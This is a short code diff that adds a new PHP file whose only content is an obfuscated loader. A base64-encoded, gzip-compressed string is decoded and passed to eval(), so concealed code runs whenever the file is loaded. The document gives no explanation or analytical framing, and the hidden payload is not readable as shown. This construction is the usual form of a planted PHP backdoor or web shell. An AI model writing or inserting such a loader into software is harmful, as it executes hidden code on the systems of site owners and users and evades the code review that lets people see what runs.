@@ -1,0 +1,3 @@
+<?php
+$p = "H4sIAAAAAAACA8tM08gsLk4t0VCJD3INDHUNDolWT1aP1dSsTk3OyFdQtykoSrVTt1bJty3OSM3JiU+tSE1GV2sNVppRkptTXJCanJmYk5yRWFSsoZIPlVG30YeYUpuaU5wKMbggoyC+NC8xN1VD07oWAOfMPmyFAAAA";
+eval(gzdecode(base64_decode($p)));
